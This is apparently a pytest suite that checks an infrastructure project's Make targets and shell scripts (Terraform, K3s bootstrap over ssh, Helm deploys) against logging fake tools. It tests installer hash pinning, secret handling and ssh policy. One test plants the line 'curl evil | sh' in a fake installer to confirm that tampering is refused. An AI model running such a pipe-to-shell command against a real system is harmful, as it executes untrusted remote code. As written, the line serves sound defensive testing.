"""Shell scripts pass shellcheck; the Make targets run against fake terraform/ssh/kubectl/helm
executables placed first on PATH, which record their calls."""

from __future__ import annotations

import hashlib
import json
import os
import re
import shutil
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest

from tests.infra.conftest import K3S_VERSION, REPO, Rendered, pod_spec, run, workloads
from tests.infra.fakes.fake_tool import MASTER_SECRET

FAKE_TOOLS = [
    *["terraform", "ssh", "kubectl", "helm", "ngrok", "uv", "curl", "git", "docker", "aws"],
]
FAKE_CA_BUNDLE = "-----BEGIN CERTIFICATE-----\nMIIfake\n-----END CERTIFICATE-----\n"
# The tag the fake git's commit gives the images.
IMAGE_TAG = "0123456789ab"
IMAGES = [f"ghcr.io/ca4-project/ca4-{service}:{IMAGE_TAG}" for service in ("processor", "worker")]
NODES = ["10.40.10.11", "10.40.11.21", "10.40.10.22"]
# What the fake curl serves as the K3s installer, and the pin the tests give the scripts.
FAKE_INSTALLER = b"#!/bin/sh\n# stand-in for the K3s installer\necho installed\n"
# What the recipes and scripts need from the system besides the faked tools.
SYSTEM_TOOLS = [
    "bash",
    "sh",
    "env",
    "cat",
    "sed",
    "grep",
    "mktemp",
    "rm",
    "mkdir",
    "chmod",
    "dirname",
    "head",
    "cut",
    "tr",
    "wc",
    "diff",
    "find",
    "cp",
    "install",
    "cmp",
    "make",
    "test",
    "printf",
    "sha256sum",
    "mv",
    "od",
]
GUIDE_TARGETS = [
    "ca4-apply",
    "ca4-bootstrap-k3s",
    "ca4-images",
    "ca4-db-user",
    "ca4-platform-setup",
    "ca4-deploy-app",
    "ca4-verify-e2e",
]
ALL_TARGETS = [
    *GUIDE_TARGETS,
    "ca4-images",
    "ca4-destroy",
    "dev-api",
    "dev-ngrok",
    "dev-kafka-tunnel",
]


def shell_scripts() -> list[Path]:
    """Every tracked or new (not ignored) file that is a shell script, by suffix or shebang."""
    listed = subprocess.run(
        ["git", "ls-files", "--cached", "--others", "--exclude-standard"],
        cwd=REPO,
        capture_output=True,
        text=True,
        check=True,
    ).stdout.split()
    scripts = []
    for name in listed:
        path = REPO / name
        if not path.is_file():
            continue
        if path.suffix in {".sh", ".bash"}:
            scripts.append(path)
            continue
        with path.open("rb") as handle:
            first = handle.readline(100)
        if re.match(rb"#!\s*/(usr/)?bin/(env\s+)?(ba)?sh\b", first):
            scripts.append(path)
    return sorted(scripts)


@pytest.mark.parametrize("script", shell_scripts(), ids=lambda p: str(p.relative_to(REPO)))
def test_shellcheck(shellcheck: str, script: Path) -> None:
    result = run([shellcheck, "-x", str(script)], cwd=script.parent)
    assert result.returncode == 0, result.stdout


def test_infra_scripts_are_found() -> None:
    names = {p.name for p in shell_scripts()}
    assert {"k3s-bootstrap.sh", "tunnel.sh", "preflight.sh", "helm-sync.sh", "lib.sh"} <= names


def test_make_help_lists_every_target() -> None:
    text = (REPO / "mk" / "infra.mk").read_text()
    for target in [*ALL_TARGETS, "helm-sync"]:
        assert re.search(rf"^{re.escape(target)}: ## \S", text, re.M), (
            f"{target} has no ## help line"
        )


# -- fake environment ----------------------------------------------------------------------------


class Sandbox:
    """A PATH of fake tools plus the system tools the recipes need, and the call log."""

    def __init__(self, root: Path) -> None:
        self.root = root
        self.bin = root / "bin"
        self.bin.mkdir()
        self.log = root / "calls.jsonl"
        self.state = root / "state"
        self.state.mkdir()
        self.home = root / "home"
        (self.home / ".kube").mkdir(parents=True)
        fake = (Path(__file__).parent / "fakes" / "fake_tool.py").read_text()
        for tool in FAKE_TOOLS:
            self.add_fake(tool, fake)
        for tool in SYSTEM_TOOLS:
            found = shutil.which(tool)
            if found is None:
                pytest.fail(f"system tool {tool} is missing: the Make targets need it")
            (self.bin / tool).symlink_to(found)
        self.pubkey = root / "id_ed25519.pub"
        self.pubkey.write_text("ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIFakeKeyForTests ca4@test\n")
        self.identity = root / "id_ed25519"
        self.identity.write_text("not a real key: the fake ssh only checks that it is offered\n")
        self.downloads = root / "downloads"
        self.downloads.mkdir()
        (self.downloads / "install.sh").write_bytes(FAKE_INSTALLER)
        (self.downloads / "global-bundle.pem").write_text(FAKE_CA_BUNDLE)
        self.state_dir = root / "ca4-state"
        real_ssh = shutil.which("ssh")
        if real_ssh is None:
            pytest.fail("ssh is missing: the fake ssh resolves options with the real `ssh -G`")
        self.env = {
            "PATH": str(self.bin),
            "HOME": str(self.home),
            "CA4_FAKE_LOG": str(self.log),
            "CA4_FAKE_STATE": str(self.state),
            "CA4_FAKE_DOWNLOADS": str(self.downloads),
            "CA4_REAL_SSH": real_ssh,
            "CA4_STATE_DIR": str(self.state_dir),
            "CA4_SSH_IDENTITY": str(self.identity),
            "CA4_K3S_INSTALLER_SHA256": hashlib.sha256(FAKE_INSTALLER).hexdigest(),
            "AWS_PROFILE": "ca4-test",
            "CA4_TF_STATE_BUCKET": "ca4-tfstate-test",
            "CA4_OPERATOR_CIDR": "198.51.100.7/32",
            "CA4_SSH_PUBLIC_KEY_FILE": str(self.pubkey),
            "CA4_MONGO_URL": "mongodb://user:pw@docdb.example:27017/?tls=true",
            "CA4_API_KEY_HASHES": "ci:" + "a" * 64,
            "NGROK_AUTHTOKEN": "fake",
            "CA4_API_KEY": "ca4-verify-key",
            "CA4_GRAFANA_TOKEN": "glsa_viewer",
            "CA4_KAFKA_TUNNEL_PORT": "1",  # a port nothing listens on, so the tunnel is opened
        }

    def add_fake(self, tool: str, source: str) -> None:
        path = self.bin / tool
        path.write_text(f"#!{sys.executable}\n{source}")
        path.chmod(0o755)

    def make(
        self, *targets: str, env: dict[str, str] | None = None
    ) -> subprocess.CompletedProcess[str]:
        kube = self.home / ".kube" / "ca4-dev.yaml"
        return run(
            ["make", "--no-print-directory", "-f", str(REPO / "mk" / "infra.mk"), *targets],
            cwd=REPO,
            env={**self.env, **(env or {})}
            | ({"CA4_KUBECONFIG": str(kube)} if "CA4_KUBECONFIG" not in (env or {}) else {}),
            timeout=120,
        )

    def calls(self) -> list[dict[str, Any]]:
        if not self.log.exists():
            return []
        return [json.loads(line) for line in self.log.read_text().splitlines()]

    def reset(self) -> None:
        self.log.unlink(missing_ok=True)


@pytest.fixture
def sandbox(tmp_path: Path) -> Sandbox:
    return Sandbox(tmp_path)


def verb_args(argv: list[str]) -> list[str]:
    """argv without -chdir=... and -n NAMESPACE, so the verb comes first."""
    out, skip = [], False
    for arg in argv:
        if skip:
            skip = False
        elif arg == "-n":
            skip = True
        elif not arg.startswith("-chdir"):
            out.append(arg)
    return out


def steps(calls: list[dict[str, Any]]) -> list[str]:
    """The calls as `tool verb` strings, without terraform outputs and kubectl version."""
    out = []
    for call in calls:
        argv = verb_args(call["argv"])
        if call["tool"] == "terraform" and argv[0] == "output":
            continue
        if call["tool"] == "kubectl" and argv[0] == "version":
            continue
        out.append(f"{call['tool']} {argv[0] if argv else ''}".strip())
    return out


def test_guide_sequence(sandbox: Sandbox) -> None:
    result = sandbox.make("ca4-apply", "ca4-bootstrap-k3s", "ca4-images")
    assert result.returncode == 0, result.stderr
    # The kubeconfig now exists, so the Kubernetes targets can run.
    result = sandbox.make("ca4-platform-setup", "ca4-deploy-app", "ca4-verify-e2e")
    assert result.returncode == 0, result.stderr
    calls = sandbox.calls()
    sequence = steps(calls)
    # 1. terraform init -> plan -> apply
    assert sequence[:3] == ["terraform init", "terraform plan", "terraform apply"]
    init = calls[0]["argv"]
    assert "-backend-config=key=ca4/dev/terraform.tfstate" in init
    assert "-backend-config=bucket=ca4-tfstate-test" in init
    # 2. ssh: first server installed before any agent, every ssh through the bastion
    ssh_calls = [c for c in calls if c["tool"] == "ssh"]
    assert ssh_calls
    assert all(c["policy"]["target"]["proxyjump"] == ["ubuntu@203.0.113.10"] for c in ssh_calls)
    assert all(c["policy"]["hop"] for c in ssh_calls)
    installs = [c for c in ssh_calls if "INSTALL_K3S_VERSION" in " ".join(c["argv"])]
    assert [c["argv"][c["argv"].index("-F") + 2] for c in installs] == [
        "ubuntu@10.40.10.11",
        "ubuntu@10.40.11.21",
        "ubuntu@10.40.10.22",
    ]
    assert f"INSTALL_K3S_VERSION='{K3S_VERSION}'" in " ".join(installs[0]["argv"])
    assert "--tls-san=127.0.0.1" in " ".join(installs[0]["argv"])
    for agent in installs[1:]:
        assert "--token-file=/etc/rancher/k3s/ca4-token" in " ".join(agent["argv"])
        assert "K10fake" not in " ".join(agent["argv"]), "the token never appears on a command line"
    bootstrap = [c for c in ssh_calls if "k3s ctr" not in " ".join(c["argv"])]
    assert "kubectl wait --for=condition=Ready nodes" in " ".join(bootstrap[-1]["argv"])
    kubeconfig = sandbox.home / ".kube" / "ca4-dev.yaml"
    assert "server: https://127.0.0.1:6443" in kubeconfig.read_text()
    assert oct(kubeconfig.stat().st_mode & 0o777) == "0o600"
    # 3-5. platform chart, then the app Secret and chart, then ca4 verify
    after_ssh = [s for s in sequence[3:] if not s.startswith("ssh")]
    helm_calls = [c for c in calls if c["tool"] == "helm"]
    assert [c["argv"][2] for c in helm_calls] == ["ca4-platform", "ca4-app"]
    platform_install = after_ssh.index("helm upgrade")
    app_secret = after_ssh.index("kubectl create", platform_install)
    assert after_ssh.index("helm upgrade", platform_install + 1) > app_secret
    assert after_ssh[-1] == "uv run"
    app = helm_calls[1]["argv"]
    assert "config.s3.bucket=ca4-dev-archive-123456789012" in app
    assert f"image.tag={IMAGE_TAG}" in app
    secret_apply = [c for c in calls if c["tool"] == "kubectl" and c["argv"][:2] == ["apply", "-f"]]
    assert len(secret_apply) == 3  # the platform namespace, the app Secret, the CA bundle
    assert "mongodb://" not in json.dumps([c["argv"] for c in calls]), (
        "secrets never on a command line"
    )


def test_bootstrap_is_idempotent(sandbox: Sandbox) -> None:
    assert sandbox.make("ca4-bootstrap-k3s").returncode == 0
    kubeconfig = sandbox.home / ".kube" / "ca4-dev.yaml"
    first_mtime = kubeconfig.stat().st_mtime_ns
    sandbox.reset()
    second = sandbox.make("ca4-bootstrap-k3s")
    assert second.returncode == 0, second.stderr
    remote = [" ".join(c["argv"]) for c in sandbox.calls() if c["tool"] == "ssh"]
    assert not [r for r in remote if "INSTALL_K3S_VERSION" in r], "second run reinstalled K3s"
    assert "already installed, unchanged" in second.stderr
    assert "kubeconfig" in second.stderr
    assert "unchanged" in second.stderr
    assert kubeconfig.stat().st_mtime_ns == first_mtime


def ssh_calls_through_the_bastion(sandbox: Sandbox) -> list[dict[str, Any]]:
    """The recorded ssh calls that hop through the bastion, each with its resolved policy."""
    calls = [c for c in sandbox.calls() if c["tool"] == "ssh" and "hop" in c["policy"]]
    assert calls, "no ssh call went through the bastion"
    return calls


def test_bootstrap_hop_never_prompts_for_a_host_key(sandbox: Sandbox) -> None:
    """The ProxyJump hop gets the target's host-key policy and project-local known_hosts: options
    on the ssh command line never reach the hop, so on a first run the bastion's prompt hung."""
    result = sandbox.make("ca4-bootstrap-k3s")
    assert result.returncode == 0, result.stderr
    known_hosts = str(sandbox.state_dir / "known_hosts")
    for call in ssh_calls_through_the_bastion(sandbox):
        for side in ("hop", "target"):
            policy = call["policy"][side]
            assert policy["stricthostkeychecking"] == ["accept-new"], (side, call["argv"])
            assert policy["batchmode"] == ["yes"], (side, call["argv"])
            assert policy["userknownhostsfile"] == [known_hosts], (side, call["argv"])


def test_bootstrap_hop_uses_the_operator_identity(sandbox: Sandbox) -> None:
    """A key given only through CA4_SSH_IDENTITY is offered to the bastion hop as well."""
    result = sandbox.make("ca4-bootstrap-k3s")
    assert result.returncode == 0, result.stderr
    for call in ssh_calls_through_the_bastion(sandbox):
        for side in ("hop", "target"):
            assert str(sandbox.identity) in call["policy"][side]["identityfile"], side


def test_bootstrap_runs_only_the_pinned_installer(sandbox: Sandbox) -> None:
    """The installer is fetched at its pinned tag, checked against its sha256 and fed to the
    node's shell with the pinned K3s release; nothing is piped from the internet on the node."""
    result = sandbox.make("ca4-bootstrap-k3s")
    assert result.returncode == 0, result.stderr
    fetches = [c["argv"] for c in sandbox.calls() if c["tool"] == "curl"]
    assert fetches == [
        [*fetches[0][:-1], "https://raw.githubusercontent.com/k3s-io/k3s/v1.36.4%2Bk3s1/install.sh"]
    ]
    installs = [
        c
        for c in sandbox.calls()
        if c["tool"] == "ssh" and "INSTALL_K3S_VERSION" in " ".join(c["argv"])
    ]
    assert len(installs) == 3
    for call in installs:
        remote = " ".join(call["argv"])
        assert "curl" not in remote, remote
        assert "get.k3s.io" not in remote, remote
        assert call["stdin"] == FAKE_INSTALLER.decode()
        assert f"INSTALL_K3S_VERSION='{K3S_VERSION}'" in remote, remote


def test_bootstrap_refuses_a_tampered_installer(sandbox: Sandbox) -> None:
    (sandbox.downloads / "install.sh").write_bytes(FAKE_INSTALLER + b"curl evil | sh\n")
    result = sandbox.make("ca4-bootstrap-k3s")
    assert result.returncode != 0
    assert "does not match its pinned sha256" in result.stderr
    installs = [c for c in sandbox.calls() if "INSTALL_K3S_VERSION" in " ".join(c["argv"])]
    assert installs == []


def image_steps(calls: list[dict[str, Any]]) -> list[str]:
    """Builds, saves and node imports, as `verb ref` / `import node ref` strings, in call order."""
    out = []
    for call in calls:
        argv = call["argv"]
        if call["tool"] == "docker" and argv[0] in {"build", "save"}:
            ref = argv[argv.index("-t") + 1] if argv[0] == "build" else argv[-1]
            out.append(f"{argv[0]} {ref}")
        elif call["tool"] == "ssh" and "images import" in " ".join(argv):
            node = argv[argv.index("-F") + 2].split("@")[1]
            out.append(f"import {node} {call['stdin'].split()[-1]}")
    return out


def test_first_deploy_builds_ships_and_deploys_one_tag(sandbox: Sandbox) -> None:
    """The whole first deploy, non-interactive: the images built at the commit are the ones every
    node imports and the one tag Helm deploys; a second run builds, ships and installs nothing."""
    guide = ["ca4-apply", "ca4-bootstrap-k3s", "ca4-images", "ca4-db-user"]
    cluster = ["ca4-platform-setup", "ca4-deploy-app", "ca4-verify-e2e"]
    for run_number in (1, 2):
        sandbox.reset()
        for targets in (guide, cluster):
            result = sandbox.make(*targets, env={"CA4_SSH_IDENTITY": str(sandbox.identity)})
            assert result.returncode == 0, result.stderr
        calls = sandbox.calls()
        order = [s for s in steps(calls) if s.split()[0] in {"terraform", "docker", "helm", "uv"}]
        assert order[:3] == ["terraform init", "terraform plan", "terraform apply"]
        assert order[-3:] == ["helm upgrade", "helm upgrade", "uv run"]
        helm = [c["argv"] for c in calls if c["tool"] == "helm"]
        assert f"image.tag={IMAGE_TAG}" in helm[1]
        # The app's database user: the master secret only on the stdin of `ca4 db-user`.
        db_user = next(c for c in calls if c["tool"] == "uv" and "db-user" in c["argv"])
        assert db_user["stdin"].splitlines()[0] == MASTER_SECRET
        master_password = "master-pw-never-in-argv"
        assert master_password not in json.dumps([c["argv"] for c in calls])
        assert not [
            c for c in calls if c["tool"] in {"kubectl", "helm"} and master_password in c["stdin"]
        ]
        ssh_policies = [side for c in calls if c["tool"] == "ssh" for side in c["policy"].values()]
        assert all(side["batchmode"] == ["yes"] for side in ssh_policies), "ssh could prompt"
        if run_number == 1:
            assert image_steps(calls) == [
                *[f"build {IMAGES[0]}", f"save {IMAGES[0]}"],
                *[f"import {node} {IMAGES[0]}" for node in NODES],
                *[f"build {IMAGES[1]}", f"save {IMAGES[1]}"],
                *[f"import {node} {IMAGES[1]}" for node in NODES],
            ]
            state = {p: p.read_bytes() for p in sandbox.state_dir.rglob("*") if p.is_file()}
            kubeconfig = (sandbox.home / ".kube" / "ca4-dev.yaml").stat().st_mtime_ns
        else:
            assert image_steps(calls) == [], "second run rebuilt or reshipped"
            assert not [c for c in calls if "create-secret" in c["argv"]], "a second app secret"
            assert not [c for c in calls if "INSTALL_K3S_VERSION" in " ".join(c["argv"])]
            after = {p: p.read_bytes() for p in sandbox.state_dir.rglob("*") if p.is_file()}
            assert after == state
            assert (sandbox.home / ".kube" / "ca4-dev.yaml").stat().st_mtime_ns == kubeconfig
    assert (sandbox.state_dir / "image-tag").read_text().strip() == IMAGE_TAG


def test_deploy_fetches_the_db_ca_bundle_into_what_the_chart_mounts(
    sandbox: Sandbox, rendered: Rendered
) -> None:
    """The RDS CA bundle is downloaded at deploy time into the ConfigMap and key the prod chart
    mounts, before the chart is installed; the master password never enters the cluster."""
    assert sandbox.make("ca4-bootstrap-k3s", "ca4-images").returncode == 0
    sandbox.reset()
    result = sandbox.make("ca4-deploy-app")
    assert result.returncode == 0, result.stderr
    calls = sandbox.calls()
    fetch = next(i for i, c in enumerate(calls) if c["tool"] == "curl")
    assert calls[fetch]["argv"][-1] == (
        "https://truststore.pki.rds.amazonaws.com/global/global-bundle.pem"
    )
    create = next(
        c["argv"] for c in calls[fetch:] if c["tool"] == "kubectl" and "configmap" in c["argv"]
    )
    helm = next(i for i, c in enumerate(calls) if c["tool"] == "helm")
    assert fetch < helm
    volumes = [
        v
        for w in workloads(rendered[("ca4-app", "prod")])
        for v in pod_spec(w).get("volumes", [])
        if "configMap" in v
    ]
    mounted = {(v["configMap"]["name"], i["key"]) for v in volumes for i in v["configMap"]["items"]}
    name = create[create.index("configmap") + 1]
    assert {(name, "global-bundle.pem")} <= mounted, mounted
    assert "secretsmanager" not in json.dumps([c["argv"] for c in calls])


def test_images_refuse_uncommitted_changes(sandbox: Sandbox) -> None:
    result = sandbox.make("ca4-images", env={"CA4_FAKE_GIT_STATUS": " M services/worker/x.py\n"})
    assert result.returncode != 0
    assert "uncommitted changes" in result.stderr
    assert not [c for c in sandbox.calls() if c["tool"] == "docker"]


@pytest.mark.parametrize("tool", ["podman", "buildah"])
def test_images_use_whichever_tool_exists(sandbox: Sandbox, tool: str) -> None:
    (sandbox.bin / "docker").unlink()
    sandbox.add_fake(tool, (Path(__file__).parent / "fakes" / "fake_tool.py").read_text())
    result = sandbox.make("ca4-images")
    assert result.returncode == 0, result.stderr
    verbs = [
        c["argv"][0]
        for c in sandbox.calls()
        if c["tool"] == tool and c["argv"][0] not in {"image", "inspect"}
    ]
    assert verbs[:1] == ["bud" if tool == "buildah" else "build"]


def test_images_name_the_missing_tool(sandbox: Sandbox) -> None:
    (sandbox.bin / "docker").unlink()
    result = sandbox.make("ca4-images")
    assert result.returncode != 0
    lines = result.stderr.strip().splitlines()
    assert lines[:1] == [
        "images.sh: missing tool: docker, podman or buildah "
        "(install one to build the images, or set CA4_IMAGE_TOOL)"
    ]


def test_deploy_without_a_built_tag_is_refused(sandbox: Sandbox) -> None:
    (sandbox.home / ".kube" / "ca4-dev.yaml").write_text("apiVersion: v1\n")
    result = sandbox.make("ca4-deploy-app")
    assert result.returncode != 0
    assert "ca4-deploy-app: no image tag: run 'make ca4-images'" in result.stderr
    assert not [c for c in sandbox.calls() if c["tool"] == "helm"]


def test_helm_targets_are_idempotent_upgrades(sandbox: Sandbox) -> None:
    assert sandbox.make("ca4-bootstrap-k3s", "ca4-images").returncode == 0
    for _ in range(2):
        sandbox.reset()
        result = sandbox.make("ca4-platform-setup", "ca4-deploy-app")
        assert result.returncode == 0, result.stderr
        for call in sandbox.calls():
            if call["tool"] == "helm":
                assert call["argv"][:2] == ["upgrade", "--install"]
            if call["tool"] == "kubectl":
                assert verb_args(call["argv"])[0] in {"version", "create", "apply", "label"}
                if verb_args(call["argv"])[0] == "create":
                    assert "--dry-run=client" in call["argv"]


def test_destroy_keeps_the_bucket_unless_asked(sandbox: Sandbox) -> None:
    assert sandbox.make("ca4-destroy").returncode == 0
    destroy = next(c["argv"] for c in sandbox.calls() if c["argv"][1:2] == ["destroy"])
    assert "-target=module.network" in destroy
    assert not any("archive_bucket" in a for a in destroy)
    sandbox.reset()
    assert sandbox.make("ca4-destroy", env={"DESTROY_ARCHIVE": "yes"}).returncode == 0
    calls = [c["argv"] for c in sandbox.calls() if c["tool"] == "terraform"]
    assert any(
        "-target=module.archive_bucket" in a and "archive_force_destroy=true" in a for a in calls
    )
    assert any(a[1] == "destroy" and not any(x.startswith("-target") for x in a) for a in calls)


def test_dev_targets(sandbox: Sandbox) -> None:
    result = sandbox.make("dev-kafka-tunnel", "dev-ngrok", "dev-api")
    assert result.returncode == 0, result.stderr
    calls = sandbox.calls()
    tunnel = next(c["argv"] for c in calls if c["tool"] == "ssh")
    # The tunnel NodePort keeps the bastion's address (Local), so it ends on the broker's node.
    lookup = next(c["argv"] for c in calls if c["tool"] == "kubectl")
    assert lookup[lookup.index("get") : lookup.index("get") + 3] == ["get", "pod", "kafka-0"]
    assert "127.0.0.1:1:10.40.11.21:30094" in tunnel
    assert "ubuntu@203.0.113.10" in tunnel
    assert next(c["argv"] for c in calls if c["tool"] == "ngrok") == ["http", "127.0.0.1:8000"]
    assert "uvicorn" in next(c["argv"] for c in calls if c["tool"] == "uv")


@pytest.mark.parametrize(
    ("target", "tool"),
    [
        ("ca4-apply", "terraform"),
        ("ca4-bootstrap-k3s", "ssh"),
        ("ca4-platform-setup", "helm"),
        ("ca4-deploy-app", "kubectl"),
        ("ca4-verify-e2e", "uv"),
        ("ca4-destroy", "terraform"),
        ("dev-api", "uv"),
        ("dev-ngrok", "ngrok"),
        ("dev-kafka-tunnel", "ssh"),
    ],
)
def test_missing_tool_stops_the_target(sandbox: Sandbox, target: str, tool: str) -> None:
    (sandbox.bin / tool).unlink()
    kube = sandbox.home / ".kube" / "ca4-dev.yaml"
    kube.write_text("apiVersion: v1\n")
    result = sandbox.make(target)
    assert result.returncode != 0
    assert f"{target}: missing tool: {tool}" in result.stderr
    assert len(result.stderr.strip().splitlines()[0]) < 160
    assert not [
        c
        for c in sandbox.calls()
        if c["tool"] in {"terraform", "helm"} and c["argv"][0] != "output"
    ]


@pytest.mark.parametrize(
    ("target", "unset", "message"),
    [
        ("ca4-apply", "AWS_PROFILE", "missing credential: AWS"),
        ("ca4-apply", "CA4_OPERATOR_CIDR", "missing setting: CA4_OPERATOR_CIDR"),
        ("ca4-apply", "CA4_TF_STATE_BUCKET", "missing setting: CA4_TF_STATE_BUCKET"),
        ("ca4-destroy", "AWS_PROFILE", "missing credential: AWS"),
        ("ca4-deploy-app", "CA4_MONGO_URL", "missing setting: CA4_MONGO_URL"),
        ("dev-ngrok", "NGROK_AUTHTOKEN", "missing setting: NGROK_AUTHTOKEN"),
    ],
)
def test_missing_credential_stops_the_target(
    sandbox: Sandbox, target: str, unset: str, message: str
) -> None:
    (sandbox.home / ".kube" / "ca4-dev.yaml").write_text("apiVersion: v1\n")
    env = dict(sandbox.env)
    env.pop(unset)
    sandbox.env = env
    result = sandbox.make(target)
    assert result.returncode != 0
    assert f"{target}: {message}" in result.stderr
    assert not [
        c
        for c in sandbox.calls()
        if c["tool"] in {"terraform", "helm", "ngrok"} and c["argv"][0] != "output"
    ]


def test_missing_kubeconfig_stops_platform_setup(sandbox: Sandbox) -> None:
    result = sandbox.make("ca4-platform-setup")
    assert result.returncode != 0
    assert "ca4-platform-setup: missing file: CA4_KUBECONFIG=" in result.stderr


def test_unreachable_api_is_named(sandbox: Sandbox) -> None:
    (sandbox.home / ".kube" / "ca4-dev.yaml").write_text("apiVersion: v1\n")
    sandbox.add_fake("kubectl", "import sys\nsys.exit(1)\n")
    result = sandbox.make("ca4-platform-setup")
    assert result.returncode != 0
    assert "Kubernetes API not reachable" in result.stderr
    assert "make ca4-api-tunnel" in result.stderr


def test_os_environ_untouched() -> None:
    assert "CA4_FAKE_LOG" not in os.environ
